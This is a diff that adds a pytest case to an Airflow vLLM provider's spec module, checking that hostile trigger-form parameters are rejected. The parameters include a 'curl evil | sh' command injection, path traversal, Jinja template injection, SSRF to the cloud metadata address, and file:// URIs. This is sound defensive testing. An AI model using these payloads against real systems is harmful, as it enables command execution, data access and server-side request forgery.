@@ -3,7 +3,10 @@ import json
 import pytest
 
 from airflow_provider_vllm.core.errors import SpecError
+from airflow_provider_vllm.core.param_schemas import validate_params
 from airflow_provider_vllm.core.spec import JobSpec, template_columns
+from tests.support.ledger import record_malicious
+from tests.support.security import base_doc
 
 BASE = {"model": {"name": "m"}, "io": {"input_uri": "/in", "output_uri": "/out"}}
 
@@ -97,3 +100,32 @@ def test_from_params_keeps_only_the_nulls_asked_for():
     assert spec.cache.uri is None and spec.sampling.structured is None
     with pytest.raises(SpecError, match="model.name"):  # a null where a value is required still fails by name
         JobSpec.from_params({"model": None}, base=base, keep_null={"model"})
+
+
+@pytest.mark.reliability
+def test_from_params_refuses_the_forms_payloads(allowed):
+    """The trigger-form path: flat params over the DAG's base spec."""
+    bad = [
+        {"input_uri": "s3://data/in/%2e%2e/x"},
+        {"model": "m; curl evil | sh"},
+        {"labels": ["ok", "{{ 7*7 }}"]},
+        {"system_prompt": "{% for x in range(10**9) %}{% endfor %}"},
+        {"template": "{text.__class__}"},
+        {"id_column": "id; DROP"},
+        {"output_uri": "file://evil/x"},
+        {"labels": [f"l{i}" for i in range(300)]},
+        {"compare_with": "http://169.254.169.254/latest/"},
+        {"compare_with": "s3://data/out/%2e%2e/x"},
+    ]
+    n = 0
+    for params in bad:
+        with pytest.raises(SpecError):
+            JobSpec.from_params(params, base=base_doc(allowed))
+        n += 1
+    record_malicious("from_params", len(bad), n)
+    # the form's schema refuses them too, before a run exists; a good one becomes changes.previous_uri
+    for value in ("http://169.254.169.254/latest/", "s3://data/out/%2e%2e/x", "relative/out", "/a/{{ ds }}/"):
+        with pytest.raises(SpecError, match="param compare_with"):
+            validate_params({"compare_with": value})
+    spec = JobSpec.from_params({"compare_with": str(allowed / "out" / "dt=1") + "/"}, base=base_doc(allowed))
+    assert spec.changes.previous_uri == str(allowed / "out" / "dt=1") + "/"
